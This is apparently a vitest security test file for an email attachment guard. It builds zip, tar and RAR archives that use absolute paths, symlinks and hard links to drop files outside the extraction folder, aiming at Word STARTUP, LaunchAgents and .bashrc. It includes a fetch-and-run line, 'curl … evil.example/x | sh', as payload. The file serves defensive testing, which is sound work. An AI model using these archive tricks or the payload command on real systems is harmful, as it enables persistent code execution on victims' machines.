import { rarFile, tarArchive, tarEntry, USTAR_MAGIC, zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attachmentTests, attackerKit } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 97: round 96 left absolute paths and links open. An archive's file may still land outside the folder
// it is extracted to, with no `..` in its own name:
// - an absolute path (`C:\…`, `\\?\C:\…`, `\\server\share\…`, a drive-relative `C:name`, `/…`), which every current
//   major extractor strips but Python's tarfile (before 3.14's `data` filter) and many "zip slip" libraries follow;
// - a symbolic link pointing outside (absolute, or climbing with `..` from its folder), and a file written through
//   it: 7-Zip before 25.00 follows a zip's Unix symlink whose target is a Windows path (CVE-2025-11001/11002), and
//   writes the next file through it; macOS and Linux extractors keep links; the link's folder name may be matched
//   case-insensitively, with trailing dots and spaces dropped (Windows) or in another Unicode normalization (macOS);
// - a tar hard link whose target is outside (libarchive before 3.2.1 wrote a hard link's data through it,
//   CVE-2016-5418), and a file written over a link of its own name (GNU tar --overwrite opens it with O_TRUNC).
// The guard listed each by its names alone and delivered the archive when no name was a blocked file's: a template
// in Word's STARTUP folder (its macros run at Word's next start), a LaunchAgent, a shell's start-up file.
const stack = useLocalStack();
const kit = attackerKit(stack);

const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n', 'latin1');
// A template's package (its macros elsewhere): what matters is where it is written.
const DOTM = zipFile([{ name: '[Content_Types].xml', data: '<Types/>' }]);
const PLIST = Buffer.from('<?xml version="1.0"?><plist version="1.0"><dict></dict></plist>\n', 'utf8');
const SHELL = Buffer.from('curl -s https://evil.example/x | sh\n', 'utf8');
const WORD_STARTUP = 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Word\\STARTUP';
const NONE = Buffer.alloc(0);
// A name's UTF-8 bytes, as the tar builder (which writes latin1) must be given them.
const utf8 = (name: string) => Buffer.from(name, 'utf8').toString('latin1');

/** A ustar symbolic link (type 2) or hard link (type 1) named `name` to `target`. */
const tarLink = (name: string, target: string, type: '1' | '2' = '2') =>
  tarEntry(name, NONE, type, { ...USTAR_MAGIC, 157: target });
const tarFile = (name: string, data: Buffer) => tarEntry(name, data, '0', USTAR_MAGIC);

describe('A97-1: an archive path that is absolute', () => {
  attachmentTests(kit, {
    'zip: C:\\Users\\…\\Word\\STARTUP\\CV.dotm': attachedFile(
      'CV.zip',
      zipFile([
        { name: 'CV.pdf', data: PDF },
        { name: `${WORD_STARTUP}\\CV.dotm`, data: DOTM },
      ]),
    ),
    'zip: /Users/bob/Library/LaunchAgents/com.apple.update.plist': attachedFile(
      'CV.zip',
      zipFile([
        { name: 'CV.pdf', data: PDF },
        { name: '/Users/bob/Library/LaunchAgents/com.apple.update.plist', data: PLIST },
      ]),
    ),
    'zip: a UNC path \\\\evil.example\\share\\CV.dotm': attachedFile(
      'CV.zip',
      zipFile([{ name: '\\\\evil.example\\share\\CV.dotm', data: DOTM }]),
    ),
    'tar: /home/bob/.bashrc': attachedFile(
      'CV.tar',
      tarArchive(tarFile('CV.pdf', PDF), tarFile('/home/bob/.bashrc', SHELL)),
    ),
    'RAR 5: \\\\?\\C:\\Users\\…\\Word\\STARTUP\\CV.dotm': attachedFile(
      'CV.rar',
      rarFile([{ name: `\\\\?\\${WORD_STARTUP}\\CV.dotm`, data: DOTM }], { version: 5 }),
    ),
    'RAR 4: a drive-relative C:CV.dotm': attachedFile('CV.rar', rarFile([{ name: 'C:CV.dotm', data: DOTM }])),
  });
});

describe('A97-2: a link out of the extraction folder, and a file written through it', () => {
  attachmentTests(kit, {
    // 7-Zip before 25.00 (CVE-2025-11001): a Unix symlink whose target is a Windows path, then a file through it.
    'zip: a symlink docs -> C:\\…\\Word\\STARTUP, then docs/CV.dotm': attachedFile(
      'CV.zip',
      zipFile([
        { name: 'docs', data: WORD_STARTUP, symlink: true, method: 0 },
        { name: 'docs/CV.dotm', data: DOTM },
      ]),
    ),
    'zip: a symlink Docs -> ~/Library/LaunchAgents, then DOCS/com.apple.update.plist (case-insensitive)':
      attachedFile(
        'CV.zip',
        zipFile([
          { name: 'Docs', data: '/Users/bob/Library/LaunchAgents', symlink: true, method: 0 },
          { name: 'DOCS/com.apple.update.plist', data: PLIST },
        ]),
      ),
    'zip: a relative symlink climbing out (../../..), then a file through it': attachedFile(
      'CV.zip',
      zipFile([
        { name: 'a/docs', data: '../../../AppData/Roaming/Microsoft/Word/STARTUP', symlink: true, method: 0 },
        { name: 'a/docs/CV.dotm', data: DOTM },
      ]),
    ),
    // UnZip makes a link of an S_IFLNK entry made on BeOS (host 16) as of one made on Unix; the reader took it as a file.
    'zip made on BeOS: a symlink docs -> ~/Library/LaunchAgents, then docs/com.apple.update.plist':
      attachedFile(
        'CV.zip',
        zipFile([
          {
            name: 'docs',
            data: '/Users/bob/Library/LaunchAgents',
            method: 0,
            madeBy: { host: 16, mode: 0o120777 },
          },
          { name: 'docs/com.apple.update.plist', data: PLIST },
        ]),
      ),
    'tar: a symlink docs -> /home/bob, then docs/.bashrc': attachedFile(
      'CV.tar',
      tarArchive(tarLink('docs', '/home/bob'), tarFile('docs/.bashrc', SHELL)),
    ),
    'tar: a symlink docs, then `docs. /.bashrc` (Windows drops the trailing dot and space)': attachedFile(
      'CV.tar',
      tarArchive(tarLink('docs', 'x'), tarFile('docs. /.bashrc', SHELL)),
    ),
    'tar: a symlink café (NFC), then café/.bashrc in NFD (macOS normalizes)': attachedFile(
      'CV.tar',
      tarArchive(tarLink(utf8('caf\u00e9'), 'x'), tarFile(utf8('cafe\u0301/.bashrc'), SHELL)),
    ),
    'tar: a symlink .bashrc -> /home/bob/.bashrc, then a file .bashrc written over it': attachedFile(
      'CV.tar',
      tarArchive(tarLink('.bashrc', '/home/bob/.bashrc'), tarFile('.bashrc', SHELL)),
    ),
    'tar: a hard link to /home/bob/.bashrc': attachedFile(
      'CV.tar',
      tarArchive(tarFile('CV.pdf', PDF), tarLink('notes.txt', '/home/bob/.bashrc', '1')),
    ),
  });

  it('refuses the link even with ALLOW_UNLISTED_ARCHIVES when the file through it is a blocked one', async () => {
    const [message] = attachedFile(
      'CV.tar',
      tarArchive(tarLink('docs', '/tmp'), tarFile('docs/update.bat', SHELL)),
    );
    expect((await kit.inbound(message, { ALLOW_UNLISTED_ARCHIVES: 'true' })).verdict).toBe('BOUNCE');
  });
});

describe('A97: held (already refused) and controls', () => {
  it('(held) a zip name Windows saves as a blocked file: `invoice.exe.`, `invoice.exe `, `invoice.exe::$DATA`', async () => {
    for (const name of ['invoice.exe.', 'invoice.exe ', 'invoice.exe::$DATA', 'docs/invoice.exe. . ']) {
      const [message] = attachedFile('CV.zip', zipFile([{ name, data: PDF }]));
      expect((await kit.inbound(message)).verdict, name).toBe('BOUNCE');
    }
  });

  it('(held) a symbolic link named like a blocked file, and a case collision over a listed PDF with an executable', async () => {
    const [link] = attachedFile('CV.tar', tarArchive(tarFile('CV.pdf', PDF), tarLink('CV.exe', 'CV.pdf')));
    expect((await kit.inbound(link)).verdict).toBe('BOUNCE');
    const [collision] = attachedFile(
      'CV.zip',
      zipFile([
        { name: 'CV.pdf', data: PDF },
        { name: 'cv.PDF', data: Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1') },
      ]),
    );
    expect((await kit.inbound(collision)).verdict).toBe('BOUNCE');
  });

  it('(control) delivers a tar with ./ prefixes, folders and dotted names', async () => {
    const [message] = attachedFile(
      'project.tar',
      tarArchive(
        tarEntry('./', NONE, '5', USTAR_MAGIC),
        tarEntry('./project/', NONE, '5', USTAR_MAGIC),
        tarFile('./project/README.md', PDF),
        tarFile('./project/v1.2.3/report.final.pdf', PDF),
        tarFile('./project/.config', PDF),
      ),
    );
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });

  it('(control) delivers a source tarball whose symlinks stay inside (../ within the tree, a folder link)', async () => {
    const [message] = attachedFile(
      'project.tar',
      tarArchive(
        tarEntry('project/', NONE, '5', USTAR_MAGIC),
        tarFile('project/src/config.h', PDF),
        tarLink('project/include/config.h', '../src/config.h'),
        tarEntry('project/v2/', NONE, '5', USTAR_MAGIC),
        tarFile('project/v2/notes.txt', PDF),
        tarLink('project/latest', 'v2'),
        tarLink('project/docs/notes.txt', 'project/v2/notes.txt', '1'),
      ),
    );
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });

  it('(control) delivers a zip made on a Mac with in-bundle symlinks (Versions/Current -> A)', async () => {
    const [message] = attachedFile(
      'Report.zip',
      zipFile([
        { name: 'Report.bundle/Versions/A/Resources/report.pdf', data: PDF },
        { name: 'Report.bundle/Versions/Current', data: 'A', symlink: true, method: 0 },
        { name: 'Report.bundle/Resources', data: 'Versions/Current/Resources', symlink: true, method: 0 },
        { name: 'Report.bundle/Contents/notes: draft.txt', data: PDF },
      ]),
    );
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });

  it('(control) delivers a zip with subfolders and names holding dots and colons past the first segment', async () => {
    const [message] = attachedFile(
      'docs.zip',
      zipFile([
        { name: 'docs/', data: '' },
        { name: 'docs/2026.12 minutes.pdf', data: PDF },
        { name: 'docs/.hidden/notes..txt', data: PDF },
        { name: 'Scans/Meeting 10:30.pdf', data: PDF },
      ]),
    );
    expect((await kit.inbound(message)).verdict).toBe('DEFAULT');
  });
});
